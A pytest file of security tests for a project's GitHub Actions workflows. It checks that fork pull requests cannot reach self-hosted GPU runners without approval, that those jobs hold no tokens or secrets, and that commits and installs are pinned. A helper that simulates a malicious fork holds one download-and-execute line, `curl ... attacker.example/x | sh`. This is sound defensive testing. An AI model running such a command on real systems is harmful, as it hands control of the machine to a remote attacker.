"""Runner trust, as far as the workflows' YAML decides it: no fork code on the GPU runners
without a per-commit approval, no write token or secret where the code under test runs, exact
commits, a pinned gate. integration/test_workflows_trust.py runs the steps' scripts.

What GitHub decides, and YAML cannot change, is modelled in one place (`file_github_runs`): for
`pull_request` (and its review events) GitHub runs the workflow file of the PR's own merge
commit, which a fork controls; for every other event the file comes from the base repository.
"""

from __future__ import annotations

import copy
import json
import re

import pytest
import yaml
from support.expressions import evaluate_if
from support.paths import REPO_ROOT
from support.workflows import (
    PR_WORKFLOWS,
    SHA_RE,
    WORKFLOWS,
    gate_checkouts,
    is_checkout,
    load,
    needs,
    runner_group,
    runs,
    runs_on_self_hosted,
    self_hosted_jobs,
    step,
    triggers,
)

from gate.plan.spec import BUILTIN_PLANS

# Events for which GitHub runs the PR's own copy of the workflow file.
FILE_FROM_PR_HEAD = {"pull_request", "pull_request_review", "pull_request_review_comment"}
# Events whose workflow file a fork cannot choose and whose code is trusted or approved. Not
# workflow_call: a runner group's entry for a called workflow admits every caller, a fork's
# pull_request workflow included (security review H1), so no GPU workflow is reusable.
TRUSTED_FILE_EVENTS = {"pull_request_target", "workflow_dispatch", "schedule"}
ALLOWED_SHA_REFS = {
    "${{ needs.decide.outputs.sha }}",  # the head commit of the approving event
    "${{ inputs.sha }}",  # the commit a writer dispatched
    "${{ github.sha }}",  # the default branch's commit of a scheduled run
    "${{ inputs.good }}",  # gate-bisect: a default-branch commit (check-on-default-branch)
}


# -- the approval path, per kind of trigger -----------------------------------------------
def environment_name(job: dict) -> str | None:
    env = job.get("environment")
    return env.get("name") if isinstance(env, dict) else env


def decide_checks(decide: dict) -> list[str]:
    """What `decide` must check, under its own condition, before a fork's commit may run."""
    problems = []
    condition = "steps.decide.outputs.check-environment == 'true'"
    for command in ("gate trust check-environment perf-gate-fork", "gate trust check-review"):
        found = runs(decide, command)
        if not found or found[0].get("if") != condition:
            problems.append(f"decide does not run `{command}` for every fork run")
    return problems


def default_branch_only(job: dict) -> bool:
    """The job's `if:` admits a dispatch only on the default branch, and a schedule."""
    def admits(event_name: str, ref: str, event: dict) -> bool:
        github = {"event_name": event_name, "ref": ref, "event": event}
        return evaluate_if(job.get("if", "true"), {"github": github})
    repo = {"repository": {"default_branch": "main"}}
    return (not admits("workflow_dispatch", "refs/heads/feature", repo)
            and admits("workflow_dispatch", "refs/heads/main", repo)
            and admits("schedule", "refs/heads/main", {"schedule": "17 3 * * *"}))


def approval_problems(doc: dict, name: str, event: str) -> list[str]:
    """Why self-hosted job `name` could run without approval for `event` ([] when it can't)."""
    job = doc["jobs"][name]
    if event == "pull_request_target":
        decide = doc["jobs"].get("decide")
        problems = []
        if decide is None or "decide" not in needs(job):
            return ["does not need the decide job"]
        if "needs.decide.outputs.run == 'true'" not in str(job.get("if", "")):
            problems.append("runs without decide's run=true")
        if environment_name(job) != "${{ needs.decide.outputs.environment }}":
            problems.append("is not gated by decide's environment")
        return problems + decide_checks(decide)
    if event in ("schedule", "workflow_dispatch") and "if" in job and default_branch_only(job):
        return []  # the default branch's own code
    if event == "workflow_dispatch":
        check = doc["jobs"].get("check")
        if check is None or "check" not in needs(job):
            return ["does not need the check job"]
        (merged,) = runs(check, "gate trust check-on-default-branch --sha") or [{}]
        if merged and "if" not in merged:
            return []  # only commits of the default branch run: merged, reviewed code
        if environment_name(job) != "perf-gate-fork":
            return ["a writer's dispatch alone sends the commit to the GPU runner"]
        (env_check,) = runs(check, "gate trust check-environment perf-gate-fork") or [{}]
        if not env_check or "if" in env_check:
            return ["the check job does not always check the approval environment"]
        if not runs(check, "gate trust check-head"):
            return ["the check job does not check the PR's head"]
        return []
    if event == "schedule":
        return ["is not limited to the default branch"]
    return [f"runs on {event}, whose workflow file or code is not approved"]


def fork_edit(doc: dict) -> dict:
    """What a fork's PR does to its own copy of the workflow: drop every `if:`, `needs:` and
    `environment:` and add its own job on the GPU runner."""
    evil = copy.deepcopy(doc)
    for job in evil["jobs"].values():
        for key in ("if", "needs", "environment"):
            job.pop(key, None)
    evil["jobs"]["mine"] = {
        "runs-on": ["self-hosted", "gpu", "a100"],
        "steps": [{"run": "curl -s https://attacker.example/x | sh"}],
    }
    return evil


def file_github_runs(event: str, base_file: dict, pr_file: dict) -> dict:
    return pr_file if event in FILE_FROM_PR_HEAD else base_file


# == 1. the file that decides is the base branch's ========================================
def test_self_hosted_jobs_run_only_on_events_whose_workflow_file_is_trusted():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        if not self_hosted_jobs(doc):
            continue
        untrusted = set(triggers(doc)) - TRUSTED_FILE_EVENTS
        assert not untrusted, f"{path.name}: self-hosted jobs under {untrusted}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_a_fork_pr_that_edits_the_workflow_reaches_no_gpu_runner(path):
    """The attack: the fork's PR rewrites its copy of the workflow (no label `if:`, no
    environment, its own self-hosted job). Whatever file GitHub runs for each trigger, every
    self-hosted job in it must still need an approval the fork cannot give."""
    shipped = yaml.safe_load(path.read_text())
    forked = fork_edit(shipped)
    for event in triggers(shipped):
        doc = file_github_runs(event, shipped, forked)
        unapproved = {
            name: problems
            for name in self_hosted_jobs(doc)
            if (problems := approval_problems(doc, name, event))
        }
        assert not unapproved, f"{path.name} on {event}: {unapproved}"


def test_the_pr_workflows_run_on_pull_request_target_for_the_default_branch():
    for name in PR_WORKFLOWS:
        on = triggers(load(name))
        assert list(on) == ["pull_request_target"], name
        assert on["pull_request_target"]["types"] == [
            "opened",
            "synchronize",
            "reopened",
            "labeled",
        ]
        assert on["pull_request_target"]["branches"] == ["main"]


def test_decide_job_may_read_environments_reviews_and_the_gates_branch():
    for name in PR_WORKFLOWS:
        assert load(name)["jobs"]["decide"]["permissions"] == {
            "actions": "read", "contents": "read", "pull-requests": "read"}


# == 1b. what the GPU job holds ===========================================================
def test_no_self_hosted_job_holds_a_write_token_secrets_or_a_cache():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        assert "secrets" not in json.dumps(doc.get("env", {})), path.name
        for name, job in self_hosted_jobs(doc).items():
            where = f"{path.name}:{name}"
            assert job.get("permissions") == {"contents": "read"}, where  # explicit, read-only
            text = json.dumps(job)
            assert "secrets." not in text and "secrets: inherit" not in text, where
            assert "github.token" not in text and "GITHUB_TOKEN" not in text, where
            for s in job["steps"]:
                uses = str(s.get("uses", ""))
                assert not uses.startswith(("actions/cache@", "actions/cache/")), where
                assert "cache" not in (s.get("with") or {}), where
                if is_checkout(s):
                    assert s["with"]["persist-credentials"] is False, where


def test_jobs_that_hold_write_tokens_never_run_the_code_under_test():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        for name, job in doc["jobs"].items():
            perms = job.get("permissions", doc.get("permissions", {}))
            if "write" not in perms.values():
                continue
            assert not runs_on_self_hosted(job), f"{path.name}:{name}"
            for s in job["steps"]:
                if is_checkout(s) and "repository" not in s["with"]:
                    # only the nightly's commit of the default branch, to commit baselines
                    assert s["with"]["ref"] == "${{ github.sha }}", f"{path.name}:{name}"
                assert s.get("uses") != "./.gate", f"{path.name}:{name}"


# == 1c. one exact commit =================================================================
def test_checkouts_of_the_code_under_test_use_exact_commit_shas():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        for name, job in self_hosted_jobs(doc).items():
            code = [s for s in job["steps"] if is_checkout(s) and "repository" not in s["with"]]
            assert code, f"{path.name}:{name} checks out nothing"
            for s in code:
                ref = s["with"].get("ref")
                if "sparse-checkout" in s["with"]:  # the base commit's baselines, data only
                    assert ref == "${{ github.event.pull_request.base.sha }}"
                    continue
                assert ref in ALLOWED_SHA_REFS, f"{path.name}:{name}: ref {ref!r}"
                confirm = [c for c in job["steps"] if "git rev-parse HEAD" in str(c.get("run"))]
                if ref != "${{ github.sha }}":
                    assert confirm, f"{path.name}:{name}: nothing confirms the checked-out commit"


@pytest.mark.parametrize(("name", "pr"), [
    ("gate-pr.yml", "${{ github.event.pull_request.number }}"),
    ("gate-matrix.yml", "${{ github.event.pull_request.number }}"),
    ("gate-rerun.yml", "${{ inputs.pr }}")])
def test_the_pr_path_reads_the_history_as_data_in_both_its_jobs(name, pr):
    """The acknowledgements and the nights come from the data branch of this repository, read
    as data: in the measuring job before the action (so before any code under test), and in
    the comment job again, its own copy, which every acknowledgement it posts must be in."""
    doc = load(name)
    assert doc["env"]["DATA_BRANCH"] == "perf-gate-data"
    data = {"repository": "${{ github.repository }}", "ref": "${{ env.DATA_BRANCH }}",
            "path": ".perf-gate-data", "persist-credentials": False}
    for job_name in ("measure", "comment"):
        steps = doc["jobs"][job_name]["steps"]
        (i,) = [i for i, s in enumerate(steps) if is_checkout(s) and s["with"].get("ref") ==
                "${{ env.DATA_BRANCH }}"]
        assert steps[i]["with"] == data and steps[i]["continue-on-error"] is True
        if job_name == "measure":
            (gate,) = [j for j, s in enumerate(steps) if s.get("uses") == "./.gate"]
            assert i < gate and steps[gate]["with"]["pr"] == pr
            assert steps[gate]["with"]["history"] == ".perf-gate-data/history.sqlite"
    assert doc["jobs"]["comment"]["permissions"] == {"contents": "read", "pull-requests": "write"}
    post = step(doc, "comment", "Post the comment")["run"]
    assert "args+=(--history .perf-gate-data/history.sqlite)" in post and "--expect-head-sha" in post
    for job in doc["jobs"].values():  # read by the gate as data, never run
        for s in job["steps"]:
            script = str(s.get("run", "")).replace("--history .perf-gate-data/history.sqlite", "")
            assert ".perf-gate-data" not in script.replace("-f .perf-gate-data/history.sqlite", "")


# == 3. reruns measure the dispatched commit, while it is the PR's head ==================
def test_rerun_takes_a_required_sha_and_checks_out_exactly_it():
    doc = load("gate-rerun.yml")
    inputs = triggers(doc)["workflow_dispatch"]["inputs"]
    assert inputs["sha"]["required"] is True and inputs["sha"]["type"] == "string"
    assert "ref" not in inputs  # no branch names
    measure = doc["jobs"]["measure"]
    assert needs(measure) == ["check", "earlier"]  # earlier: no measured code (test_ab_reruns)
    (code,) = [s for s in measure["steps"] if is_checkout(s) and "repository" not in s["with"]]
    assert code["with"]["ref"] == "${{ inputs.sha }}"
    post = step(doc, "comment", "Post the comment")
    assert '--expect-head-sha "$SHA"' in post["run"] and post["env"]["SHA"] == "${{ inputs.sha }}"


def test_action_gives_no_measuring_step_a_token():
    steps = yaml.safe_load((REPO_ROOT / "action.yml").read_text())["runs"]["steps"]
    for s in steps:
        env = json.dumps(s.get("env") or {})
        if s.get("id") == "publish":
            assert s["env"]["GITHUB_TOKEN"] == (
                "${{ steps.setup.outputs.comment == 'true' && inputs.github-token || '' }}"
            )
            continue
        assert "token" not in env.lower(), s["name"]


def test_every_workflow_pins_the_gate_and_checks_the_pin_before_checking_it_out():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        assert SHA_RE.fullmatch(str(doc["env"]["GATE_REF"])), path.name
        for name, job in doc["jobs"].items():
            for i in gate_checkouts(job):
                before = [s for s in job["steps"][:i] if "GATE_REF" in str(s.get("run", ""))]
                assert before, f"{path.name}:{name}: the gate is checked out unchecked"
                # it runs whenever the checkout does
                assert before[-1].get("if") in (None, job["steps"][i].get("if")), (path, name)


def test_no_workflow_script_hard_codes_the_github_host():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        for job in doc["jobs"].values():
            for s in job["steps"]:
                assert "https://github.com" not in str(s.get("run", "")), path.name


# == 5. bisect: only commits of the default branch reach the GPU ========================
def test_bisect_is_dispatched_only_and_waits_for_a_second_person():
    """Security review H1: no workflow_call (a caller's jobs share the run and its artifacts,
    and the runner group's entry for a called file admits every caller), a built-in plan's
    name only, and the GPU job behind the environment with required reviewers."""
    doc = load("gate-bisect.yml")
    on = triggers(doc)
    assert set(on) == {"workflow_dispatch"}
    dispatch = on["workflow_dispatch"]["inputs"]
    assert dispatch.keys() == {"good", "bad", "plan", "issue"}
    for name in ("good", "bad"):
        assert dispatch[name]["required"] is True and dispatch[name]["type"] == "string"
    assert dispatch["plan"]["type"] == "choice"
    assert set(dispatch["plan"]["options"]) <= set(BUILTIN_PLANS)
    gpu = doc["jobs"]["bisect"]
    assert environment_name(gpu) == "perf-gate-fork" and needs(gpu) == ["check"]
    check = doc["jobs"]["check"]
    for command in ("gate trust check-caller --workflow gate-bisect.yml",
                    "gate trust check-environment perf-gate-fork",
                    "gate trust check-on-default-branch --sha"):
        (found,) = runs(check, command)
        assert "if" not in found, command  # always, whoever started it


def test_bisect_checks_both_refs_on_the_default_branch_before_the_gpu():
    doc = load("gate-bisect.yml")
    (gpu,) = self_hosted_jobs(doc).values()
    assert needs(gpu) == ["check"]
    (check,) = runs(doc["jobs"]["check"], "gate trust check-on-default-branch --sha")
    assert "if" not in check  # always, whoever started it
    assert '--sha "$GOOD" --sha "$BAD"' in check["run"]
    assert check["env"] == {"GITHUB_TOKEN": "${{ github.token }}", "GOOD": "${{ inputs.good }}",
                            "BAD": "${{ inputs.bad }}"}
    (code,) = [s for s in gpu["steps"] if is_checkout(s) and "repository" not in s["with"]]
    assert code["with"]["ref"] == "${{ inputs.good }}" and code["with"]["fetch-depth"] == 0


def test_bisect_posts_on_an_issue_only_what_the_pinned_gate_renders():
    """L2: the report job never runs vLLM code nor posts the bisect's own markdown: it checks
    out the gate only, installs it from the poster lock, and renders bisect.json."""
    job = load("gate-bisect.yml")["jobs"]["report"]
    assert job["permissions"] == {"issues": "write"} and not runs_on_self_hosted(job)
    checkouts = [s for s in job["steps"] if is_checkout(s)]
    assert checkouts and all(s["with"]["repository"] == "${{ env.GATE_REPOSITORY }}"
                             for s in checkouts)
    (post,) = runs(job, "gate publish --bisect-result report/bisect.json")
    text = json.dumps(job)
    assert "--body-file" not in text and "gh issue" not in text


def test_no_gpu_workflow_is_reusable():
    for path in WORKFLOWS:
        doc = yaml.safe_load(path.read_text())
        if self_hosted_jobs(doc):
            assert "workflow_call" not in triggers(doc), path.name


# == round two (docs/security.md, "Running on a public repository") ========================
TOKEN_WORDS = ("github.token", "GITHUB_TOKEN", "GH_TOKEN", "secrets.")
LOCK_INSTALL = re.compile(
    r"python -I -m pip install --quiet --require-hashes -r \.gate/requirements/([\w-]+)\.txt\n"
    r"\s*python -I -m pip install --quiet --no-deps --no-build-isolation \./\.gate"
)


def holds_token(s: dict) -> bool:
    return any(word in json.dumps(s.get("env") or {}) for word in TOKEN_WORDS)


def test_a_rerun_needs_a_second_person():
    """Item 1: the dispatcher alone cannot send a commit to the GPU runner."""
    doc = load("gate-rerun.yml")
    measure, check = doc["jobs"]["measure"], doc["jobs"]["check"]
    assert environment_name(measure) == "perf-gate-fork" and needs(measure) == ["check", "earlier"]
    assert needs(doc["jobs"]["earlier"]) == ["check"]  # the earlier test is fetched after it
    assert check["permissions"]["actions"] == "read"
    (env_check,) = runs(check, "gate trust check-environment perf-gate-fork")
    assert "if" not in env_check and env_check["env"]["GITHUB_TOKEN"] == "${{ github.token }}"


@pytest.mark.parametrize("name", PR_WORKFLOWS)
def test_the_label_approves_only_the_commit_its_labeller_approved(name):
    """Item 2: decide asks GitHub for the labeller's review of the event's head commit, and
    the environment's page links that review."""
    doc = load(name)
    decide = doc["jobs"]["decide"]
    (review,) = runs(decide, "gate trust check-review")
    assert review["env"]["SHA"] == "${{ steps.decide.outputs.sha }}"
    assert review["env"]["REVIEWER"] == "${{ steps.decide.outputs.reviewer }}"
    assert decide["outputs"]["review-url"] == "${{ steps.review.outputs.review-url }}"
    assert doc["jobs"]["measure"]["environment"]["url"] == "${{ needs.decide.outputs.review-url }}"


def uses_the_gate(job: dict) -> list[dict]:
    return [s for s in job["steps"] if s.get("uses") == "./.gate"]


CHECK_SCRIPT = ('/usr/bin/python3 -I -S .gate/scripts/check_runner.py --marker "$RUNNER_MARKER" '
                '--model-cache "$MODEL_CACHE"')


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_gpu_job_proves_its_runner_fresh_before_running_code(path):
    """Item 4, and round three (M2): the action's runner-marker check (its first step), or
    the job's own check, which runs the pinned gate's script with the system's Python before
    anything is installed: only the pin check and checkouts come before it."""
    doc = yaml.safe_load(path.read_text())
    if not self_hosted_jobs(doc):  # no GPU job (gate-acknowledge.yml): no runner to prove
        assert "runs-on: [self-hosted" not in path.read_text()
        return
    assert doc["env"]["RUNNER_MARKER"].startswith("/") and doc["env"]["MODEL_CACHE"].startswith("/")
    for name, job in self_hosted_jobs(doc).items():
        if action := uses_the_gate(job):
            assert action[0]["with"]["runner-marker"] == "${{ env.RUNNER_MARKER }}", name
            assert action[0]["with"]["model-cache"] == "${{ env.MODEL_CACHE }}", name
            before = job["steps"][:job["steps"].index(action[0])]
            assert not [s for s in before if "pip install" in str(s.get("run", ""))], name
            continue
        texts = [str(s.get("run", "")) for s in job["steps"]]
        (check,) = [i for i, text in enumerate(texts) if "check_runner.py" in text]
        assert texts[check] == CHECK_SCRIPT, name
        for earlier in job["steps"][:check]:  # bash tests of the pin and the inputs, checkouts
            assert (is_checkout(earlier) or "GATE_REF" in str(earlier.get("run"))
                    or earlier["name"] == "Check the inputs"), earlier["name"]
        first_install = next(i for i, text in enumerate(texts) if "pip install" in text)
        assert check < first_install < next(i for i, t in enumerate(texts) if "install-vllm" in t)


def test_the_action_checks_the_runner_before_installing_anything():
    """Its first step: from the action's own files (the pinned gate), the system's Python, no
    site-packages; the gate is installed only after it passed."""
    steps = yaml.safe_load((REPO_ROOT / "action.yml").read_text())["runs"]["steps"]
    ids = [s.get("id") for s in steps]
    assert ids[:3] == ["isolate", "setup", "install"]
    isolate = steps[0]
    assert ('/usr/bin/python3 -I -S "$ACTION_PATH/scripts/check_runner.py" --marker '
            '"$RUNNER_MARKER" --model-cache "$MODEL_CACHE"') in isolate["run"]
    assert isolate["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert "continue-on-error" not in isolate and "if" not in isolate


GPU_INSTALL = re.compile(
    r'pip=\("\$(?:RUNNER_TEMP/gate-venv|venv)/bin/python" -I -m pip install --quiet '
    r'(?:--disable-pip-version-check )?--isolated --no-cache-dir\)\n'
    r'\s*"\$\{pip\[@\]\}" --require-hashes -r "?(?:\.gate|\$ACTION_PATH)/requirements/gpu\.txt"?\n'
    r'\s*"\$\{pip\[@\]\}" --no-deps --no-build-isolation "?(?:\./\.gate|\$ACTION_PATH)"?')


def test_gpu_jobs_install_the_gate_from_its_hash_lock():
    """L4: every install of the gate in a GPU job (the action's, and the nightly, calibration
    and bisect jobs') takes every dependency from requirements/gpu.txt with --require-hashes,
    ignores pip's configuration and cache, then adds the gate alone."""
    setup = yaml.safe_load((REPO_ROOT / "action.yml").read_text())["runs"]["steps"][1]
    assert GPU_INSTALL.search(setup["run"]), setup["run"]
    for path in WORKFLOWS:
        for name, job in self_hosted_jobs(yaml.safe_load(path.read_text())).items():
            installs = [s for s in job["steps"] if "pip install" in str(s.get("run", ""))]
            assert all(GPU_INSTALL.search(s["run"]) for s in installs), (path.name, name)
            assert installs or uses_the_gate(job), (path.name, name)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_token_jobs_install_the_gate_hash_pinned_in_a_step_without_a_token(path):
    """Item 5: every GitHub-hosted job that runs the gate installs it from a lock with
    --require-hashes, then the gate alone (--no-deps, its build backend from the lock too), in
    a step that holds no token; no step that holds a token installs anything."""
    doc = yaml.safe_load(path.read_text())
    for name, job in doc["jobs"].items():
        if runs_on_self_hosted(job):
            continue
        installs = [s for s in job["steps"] if "pip install" in str(s.get("run", ""))]
        for s in job["steps"]:
            if holds_token(s):
                assert "pip install" not in str(s.get("run", "")), (path.name, name, s["name"])
        if not any("gate " in str(s.get("run", "")) for s in job["steps"]):
            continue
        assert len(installs) == 1, (path.name, name)
        (install,) = installs
        m = LOCK_INSTALL.search(install["run"])
        assert m and not holds_token(install), (path.name, name)
        text = json.dumps(job)  # the judge (numpy, scipy) comes with the nightly lock
        nightly = ("gate baseline update", "gate calibrate --merge", "gate history")
        wanted = "nightly-update" if any(word in text for word in nightly) else "poster"
        assert m.group(1) == wanted, (path.name, name)
        assert (REPO_ROOT / "requirements" / f"{wanted}.txt").is_file()


@pytest.mark.parametrize(("name", "marker"), [
    ("gate-pr.yml", "default"), ("gate-rerun.yml", "default"), ("gate-matrix.yml", "matrix")])
def test_the_poster_takes_the_marker_from_its_workflow(name, marker):
    """Item 7: the marker id comes from the workflow, never from the hand-over file."""
    post = step(load(name), "comment", "Post the comment")
    assert f"--marker-id {marker}" in post["run"]


def test_the_pr_workflow_runs_the_pr_tier_as_an_ab_and_the_nightly_a_baseline():
    """Issue 15, item 3: an A/B of the merge base against the head, both precompiled, judged
    sequentially with the noise profile from the base commit's baselines folder."""
    for name in PR_WORKFLOWS:
        (action,) = uses_the_gate(load(name)["jobs"]["measure"])
        given = action["with"]
        plan = given["plan"] if name == "gate-pr.yml" else None
        if plan is None:  # the matrix names each leg's plan
            legs = load(name)["jobs"]["measure"]["strategy"]["matrix"]["include"]
            assert {leg["plan"] for leg in legs} == {"a100-gemma4-26b-pr"}
        else:
            assert plan == "a100-gemma4-26b-pr"
        assert given["mode"] == "ab" and given["install-mode"] == "precompiled"
        assert given["base-ref"] == "${{ github.event.pull_request.base.sha }}"
        assert given["baselines-dir"] == ".perf-gate-base/${{ env.BASELINES_PATH }}"
        assert "base-python" not in given  # the action builds the merge base itself
        assert int(given["budget-minutes"]) < load(name)["jobs"]["measure"]["timeout-minutes"]
    nightly = load("gate-nightly-baseline.yml")["jobs"]["measure"]
    assert any("gate\" run --plan" in str(s.get("run")) for s in nightly["steps"])


def test_the_nightly_measures_on_its_schedule():
    """Issue 15, item 6: a schedule event carries no `repository`: the measuring job's `if:`
    must still admit it, and the update job must still know the branch."""
    doc = load("gate-nightly-baseline.yml")
    schedule = {"event_name": "schedule", "ref": "refs/heads/main", "ref_name": "main",
                "event": {"schedule": "17 3 * * *"}, "sha": "a" * 40}
    assert evaluate_if(doc["jobs"]["measure"]["if"], {"github": schedule})
    assert default_branch_only(doc["jobs"]["measure"])
    from support.expressions import Evaluator
    update = step(doc, "update", "Update the baselines")
    assert Evaluator({"github": schedule}).interpolate(update["env"]["BRANCH"]) == "main"
    push = step(doc, "update", "Push a branch and open a PR")
    assert Evaluator({"github": schedule}).interpolate(push["env"]["BASE"]) == "main"


# == round three (the security review's H1, M2-M5, L4-L5) ================================
PR_CODE_WORKFLOWS = {"gate-pr.yml", "gate-matrix.yml", "gate-rerun.yml"}
REFERENCE_WORKFLOWS = {"gate-nightly-baseline.yml", "gate-calibrate.yml", "gate-bisect.yml"}


def test_pr_code_and_reference_data_run_in_separate_runner_groups():
    """M2: a host that ran a PR's code never measures a baseline, a calibration or a bisect,
    whatever the PR left on it."""
    groups: dict[str, set[str]] = {}
    for path in WORKFLOWS:
        for job in self_hosted_jobs(yaml.safe_load(path.read_text())).values():
            groups.setdefault(path.name, set()).add(runner_group(job))
    assert set(groups) == PR_CODE_WORKFLOWS | REFERENCE_WORKFLOWS
    assert {g for name in PR_CODE_WORKFLOWS for g in groups[name]} == {"perf-gate-pr"}
    assert {g for name in REFERENCE_WORKFLOWS for g in groups[name]} == {"perf-gate-trusted"}


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_gpu_workflows_take_built_in_plans_and_reviewed_calibrations_only(path):
    """H1 (a plan file launches any command) and M3 (the cache folder's calibrations): set at
    the workflow level, so the action's steps and the jobs' own `gate` see them."""
    doc = yaml.safe_load(path.read_text())
    if not self_hosted_jobs(doc):
        return
    assert doc["env"]["GATE_BUILTIN_PLANS_ONLY"] == "true"
    assert doc["env"]["GATE_CACHE_CALIBRATIONS"] == "false"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_git_in_a_gpu_job_reads_no_configuration_an_earlier_job_left(path):
    """M2: actions/checkout copies ~/.gitconfig into its own HOME; a core.fsmonitor there
    would run before the runner check. Each checkout reads a global configuration of its own
    job (RUNNER_TEMP, emptied per job) and no system one."""
    for name, job in self_hosted_jobs(yaml.safe_load(path.read_text())).items():
        for s in job["steps"]:
            if is_checkout(s):
                assert s.get("env") == {
                    "GIT_CONFIG_GLOBAL": "${{ runner.temp }}/perf-gate-gitconfig",
                    "GIT_CONFIG_NOSYSTEM": "1"}, (path.name, name, s["name"])


@pytest.mark.parametrize("name", ["gate-nightly-baseline.yml", "gate-calibrate.yml"])
def test_the_bot_prs_are_opened_with_the_apps_token_not_the_jobs(name):
    """M5: no "Allow GitHub Actions to create and approve pull requests": the job's own token
    only reads; a GitHub App token made in the job (action pinned by SHA, this repository,
    contents and pull requests only) pushes and opens the PR; its key is a secret of an
    environment of its own."""
    doc = load(name)
    job = doc["jobs"]["update" if "nightly" in name else "store"]
    # the nightly's own token also files the change-point issues and dispatches the bisect
    # (gate history alert): neither writes code nor a pull request
    # (and reads the merged PRs, gate history link-merges)
    extra = {"issues": "write", "actions": "write", "pull-requests": "read"} \
        if "nightly" in name else {}
    assert job["permissions"] == {"contents": "read", **extra}
    assert job["environment"] == "perf-gate-bot"
    app = step(doc, "update" if "nightly" in name else "store", "Get the perf-gate app's token")
    assert re.fullmatch(r"actions/create-github-app-token@[0-9a-f]{40}", app["uses"])
    assert {k for k in app["with"] if k.startswith("permission-")} == {
        "permission-contents", "permission-pull-requests"}
    assert "repositories" not in app["with"] and "owner" not in app["with"]
    push = step(doc, "update" if "nightly" in name else "store", "Push a branch and open a PR")
    assert push["env"]["GH_TOKEN"] == "${{ steps.app.outputs.token }}"
    # the job's own token reads (the history) and files issues and dispatches (the alert), never
    # pushes or opens a PR
    with_job_token = {x["name"] for x in job["steps"] if "github.token" in json.dumps(x)}
    assert with_job_token == ({"Fetch the history", "Link the merged PRs' acknowledgements",
                               "Open, update or close the change-point issues"}
                              if "nightly" in name else set())


def test_the_pr_workflows_measure_under_pull_request_target_only():
    """M4: for pull_request_target on the default branch GitHub issues a read-only Actions
    cache token (since 2026-06-26), so the measuring job's runtime token cannot write the
    cache other workflows restore; the rerun, a dispatch, goes to the sandbox branch."""
    for name in PR_WORKFLOWS:
        on = triggers(load(name))
        assert set(on) == {"pull_request_target"} and on["pull_request_target"]["branches"] == [
            "main"]
    check = load("gate-rerun.yml")["jobs"]["check"]
    (sandbox,) = runs(check, 'gate trust check-caller --workflow gate-rerun.yml --branch')
    assert "if" not in sandbox
